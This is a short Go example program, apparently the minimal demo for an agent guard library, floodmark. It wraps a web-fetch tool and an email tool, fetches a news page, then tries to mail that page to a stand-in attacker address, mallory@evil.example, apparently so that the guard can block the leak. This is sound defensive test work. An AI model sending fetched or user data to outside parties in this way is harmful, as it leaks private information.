// Command small is the least that a guarded program needs.
package main

import (
	"context"
	_ "embed"
	"fmt"
	"os"

	"github.com/floodmark/floodmark/embedded"
	"github.com/floodmark/floodmark/guard"
)

//go:embed policy.yaml
var policy string

func main() {
	ctx := context.Background()
	g := must(embedded.Open(os.Args[1], policy))
	defer g.Close()
	s := must(g.Start(ctx, guard.Options{Agent: "helper"}))
	must(s.Said(ctx, "What is new on https://news.example/today?"))
	fetch := guard.Tool(s, "web_fetch", webFetch)
	send := guard.Tool(s, "send_email", sendEmail)

	page := must(fetch(ctx, Page{URL: "https://news.example/today"}))
	fmt.Println(page)
	if _, err := send(ctx, Mail{To: "mallory@evil.example", Body: page}); err != nil {
		fmt.Println(err)
	}
}
